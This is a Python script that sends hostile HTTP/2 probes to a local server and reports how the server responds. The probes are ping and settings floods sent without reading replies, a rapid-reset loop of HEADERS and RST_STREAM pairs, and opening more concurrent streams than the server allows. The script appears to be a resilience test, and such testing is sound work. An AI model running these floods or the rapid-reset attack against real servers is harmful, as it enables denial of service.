#!/usr/bin/env python3
"""Hostile HTTP/2 probes (h2c prior knowledge) against a server: ping / settings floods without reading,
rapid reset, too many streams. Prints one line per case: how the server answered."""
import socket, struct, sys, time, errno

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
ERR = {0: 'NO_ERROR', 1: 'PROTOCOL_ERROR', 2: 'INTERNAL_ERROR', 3: 'FLOW_CONTROL_ERROR', 7: 'REFUSED_STREAM',
       8: 'CANCEL', 11: 'ENHANCE_YOUR_CALM'}

def frame(t, flags, sid, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([t, flags]) + struct.pack('>I', sid) + payload

def headers_block(path):
    p = path.encode()
    a = b'127.0.0.1'
    # :method GET (2), :scheme http (6) indexed; :path and :authority literal without indexing
    return b'\x82\x86' + b'\x04' + bytes([len(p)]) + p + b'\x01' + bytes([len(a)]) + a

def connect(port, rcvbuf=8192):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.connect(('127.0.0.1', port))
    s.sendall(PREFACE + frame(4, 0, 0))
    return s

class Reader:
    def __init__(self, s):
        self.s, self.buf, self.eof, self.goaway, self.resets, self.statuses = s, b'', False, None, {}, {}

    def pump(self, timeout):
        self.s.settimeout(timeout)
        try:
            d = self.s.recv(1 << 20)
            if not d:
                self.eof = True
            self.buf += d
        except socket.timeout:
            pass
        except OSError as e:
            self.eof = True
            self.err = e
        while len(self.buf) >= 9:
            ln = int.from_bytes(self.buf[:3], 'big')
            if len(self.buf) < 9 + ln:
                break
            t, fl, sid = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], 'big') & 0x7fffffff
            pl = self.buf[9:9 + ln]
            self.buf = self.buf[9 + ln:]
            if t == 7:
                self.goaway = (int.from_bytes(pl[:4], 'big'), ERR.get(int.from_bytes(pl[4:8], 'big'), int.from_bytes(pl[4:8], 'big')))
            elif t == 3:
                self.resets[sid] = ERR.get(int.from_bytes(pl[:4], 'big'))
            elif t == 1:
                self.statuses[sid] = pl[:4].hex()
            elif t == 4 and not fl & 1:
                self.s.sendall(frame(4, 1, 0))

def flood_no_read(port, one, label, total=3_000_000, batch=1000, seconds=30):
    s = connect(port)
    r = Reader(s)
    r.pump(1)
    s.settimeout(5)
    sent, t0, how = 0, time.time(), 'sent all'
    data = one * batch
    try:
        while sent < total and time.time() - t0 < seconds:
            s.sendall(data)
            sent += batch
    except socket.timeout:
        how = 'server stopped reading (send blocked 5 s), connection open'
    except OSError as e:
        how = 'closed by server (%s)' % errno.errorcode.get(e.errno, e)
    if how == 'sent all':
        how = 'server kept up, nothing bounded it within %d s' % seconds
    for _ in range(20):
        r.pump(0.2)
        if r.eof:
            break
    print('%-9s %s after %d frames in %.1f s; GOAWAY seen by the client: %s' % (label, how, sent, time.time() - t0, r.goaway))
    s.close()

def rapid_reset(port, total=100_000):
    s = connect(port, rcvbuf=1 << 20)
    r = Reader(s)
    r.pump(1)
    sid, t0, n = 1, time.time(), 0
    try:
        while n < total and not r.goaway and not r.eof:
            out = b''
            for _ in range(50):
                out += frame(1, 0x5, sid, headers_block('/reset/%d' % sid)) + frame(3, 0, sid, struct.pack('>I', 8))
                sid += 2
                n += 1
            s.sendall(out)
            r.pump(0.001)
    except OSError as e:
        pass
    for _ in range(20):
        if r.goaway or r.eof:
            break
        r.pump(0.2)
    print('reset     %d HEADERS+RST_STREAM pairs in %.1f s; GOAWAY %s; closed: %s' % (n, time.time() - t0, r.goaway, r.eof))
    s.close()

def streams(port, limit, path):
    s = connect(port, rcvbuf=1 << 20)
    r = Reader(s)
    r.pump(1)
    out = b''
    for i in range(limit + 3):
        out += frame(1, 0x5, 1 + 2 * i, headers_block(path))
    s.sendall(out)
    t0 = time.time()
    while time.time() - t0 < 3:
        r.pump(0.2)
    refused = [k for k, v in r.resets.items() if v == 'REFUSED_STREAM']
    print('streams   %d opened at once (limit %d): %d answered, %d refused (REFUSED_STREAM), other resets %s, GOAWAY %s'
          % (limit + 3, limit, len(r.statuses), len(refused), {k: v for k, v in r.resets.items() if v != 'REFUSED_STREAM'}, r.goaway))
    s.close()

if __name__ == '__main__':
    port, limit, path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    flood_no_read(port, frame(6, 0, 0, b'\0' * 8), 'ping')
    flood_no_read(port, frame(4, 0, 0), 'settings')
    rapid_reset(port)
    streams(port, limit, path)
